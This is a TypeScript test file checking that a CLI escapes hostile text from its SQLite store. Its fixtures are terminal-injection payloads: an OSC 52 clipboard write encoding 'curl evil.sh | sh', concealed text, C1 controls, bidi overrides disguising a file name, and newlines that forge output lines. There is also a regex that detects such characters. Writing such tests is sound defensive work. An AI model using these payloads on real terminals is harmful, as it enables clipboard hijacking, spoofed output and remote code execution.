// Text from the store reaches the terminal as text: an OSC 52 clipboard write, SGR 8 concealed
// text, a CSI sequence, C1 controls, bidi overrides and newlines in a tool name, owner, run id,
// description or error message are shown escaped, every field stays on its own line (no forged
// `holder` or `outcome` line), and --json gives the exact values back.
import { SQLiteStore } from '@toolfence/stores/sqlite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { claimOptions, DAY_MS } from '../../../test/support/claims.js';
import { runCli } from '../../../test/support/run-cli.js';
import { sqliteDirectory } from '../../../test/support/sqlite.js';

const OSC52 = '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007';
const CONCEALED = '\u001b[8mhidden\u001b[0m';
const C1_CSI = '\u009b31m';
const BIDI = '\u202etxt.exe\u202c \u2066iso\u2069';
const FORGED = '\nholder    --fence 7 --owner attacker:1\noutcome   "paid"\r\u2028';
const hostile = (label: string) => `${label}${OSC52}${CONCEALED}${C1_CSI}${BIDI}\u007f${FORGED}`;

const directory = sqliteDirectory('cli-hostile');
const file = directory.file('records.db');
const tenant = 'shop';
const key = 'a'.repeat(60) + 'beef';
const text = {
  tool: hostile('tool'),
  owner: hostile('owner'),
  runId: hostile('run'),
  callId: hostile('call'),
  description: `${hostile('describe')} C:\\new\\x1b`,
  errorType: hostile('Type'),
  message: hostile('message'),
};

/** No raw control, C1 or bidi character, anywhere. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what it looks for
const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/;

beforeAll(async () => {
  const store = new SQLiteStore({ path: file });
  await store.ensureSchema();
  const options = claimOptions({
    tool: text.tool,
    owner: text.owner,
    runId: text.runId,
    callId: text.callId,
    description: text.description,
    mode: 'at-most-once',
  });
  const claim = await store.claim({ tenant, key }, options);
  if (claim.status !== 'acquired') throw new Error(claim.status);
  await store.markIndeterminate(
    { tenant, key },
    { fence: claim.fence, owner: text.owner },
    { type: text.errorType, message: text.message },
    DAY_MS,
  );
  await store.close();
});
afterAll(() => directory.remove());

const cli = (args: readonly string[]) => runCli(['--store', `sqlite:${file}`, '--tenant', tenant, ...args]);

describe('store text in the terminal', () => {
  it('inspect: every field escaped on its own line, no forged holder or outcome line', async () => {
    const run = await cli(['inspect', key]);
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).not.toMatch(UNSAFE);
    const lines = run.stdout.trimEnd().split('\n');
    expect(lines.filter((line) => line.startsWith('holder'))).toHaveLength(1);
    expect(lines.filter((line) => line.startsWith('outcome'))).toHaveLength(0);
    expect(lines.find((line) => line.startsWith('holder'))).toBe(
      'holder    --fence 1 --owner owner\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b[8mhidden\\x1b[0m\\x9b31m' +
        '\\u{202e}txt.exe\\u{202c} \\u{2066}iso\\u{2069}\\x7f\\nholder    --fence 7 --owner attacker:1\\noutcome   "paid"\\r\\u{2028}',
    );
    for (const label of ['tool', 'run', 'call', 'describe', 'error']) {
      expect(lines.filter((line) => line.startsWith(label))).toHaveLength(1);
    }
    // Every line is one of inspect's fields.
    for (const line of lines) {
      expect(line).toMatch(
        /^(key|tenant|store|state|tool|attempt|holder|run|call|describe|claimed|updated|lease|expires|error|resolved|retention|codec|running)\s/,
      );
    }
  }, 30_000);

  it('list and stats: one row per record, every cell escaped', async () => {
    const list = await cli(['list']);
    expect(list.code, list.stderr).toBe(0);
    expect(list.stdout).not.toMatch(UNSAFE);
    const rows = list.stdout.trimEnd().split('\n');
    expect(rows).toHaveLength(2);
    expect(rows[1]).toContain('describe\\x1b]52;c;');
    expect(rows[1]).toContain('\\u{202e}txt.exe');
    const stats = await cli(['stats']);
    expect(stats.stdout).not.toMatch(UNSAFE);
    expect(stats.stdout.trimEnd().split('\n')).toHaveLength(2);
  }, 30_000);

  it('a backslash in store text is doubled, so an escape shown is never ambiguous', async () => {
    const run = await cli(['inspect', key]);
    const line = run.stdout.split('\n').find((each) => each.startsWith('describe')) as string;
    // The text `C:\new\x1b` (backslashes, not a newline nor an ESC) reads as typed, doubled.
    expect(line.endsWith(' C:\\\\new\\\\x1b')).toBe(true);
  }, 30_000);

  it('--json gives the exact values, with the unsafe characters as \\u escapes', async () => {
    const run = await cli(['inspect', key, '--json']);
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).not.toMatch(UNSAFE);
    expect(run.json[0]?.record).toMatchObject({
      tool: text.tool,
      owner: text.owner,
      runId: text.runId,
      callId: text.callId,
      description: text.description,
      error: { type: text.errorType, message: text.message },
    });
    const list = await cli(['list', '--json']);
    expect(list.stdout).not.toMatch(UNSAFE);
    expect(list.records[0]).toMatchObject({ tool: text.tool, description: text.description });
  }, 30_000);
});
